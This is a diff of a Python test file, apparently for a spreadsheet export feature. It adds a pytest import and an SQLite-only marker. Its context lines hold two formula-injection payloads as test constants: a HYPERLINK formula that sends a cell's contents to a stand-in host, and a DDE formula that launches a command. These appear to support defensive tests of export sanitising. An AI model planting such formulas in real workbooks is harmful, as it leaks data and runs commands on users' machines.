@@ -6,6 +6,7 @@ import zipfile
 from datetime import date
 
 import openpyxl
+import pytest
 from sqlalchemy import select
 
 from app.extensions import db
@@ -14,6 +15,9 @@ from app.rosters.models import LeadingGroup, Membership
 from app.tasks.models import Task
 from app.units.models import Unit
 from tests.helpers.notices import seed_notice
+
+# Cell types are the workbook's, not the database's: SQLite only.
+pytestmark = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
 
 HYPERLINK = '=HYPERLINK("http://x/"&A1,"x")'
 DDE = "=cmd|' /C calc'!A0"
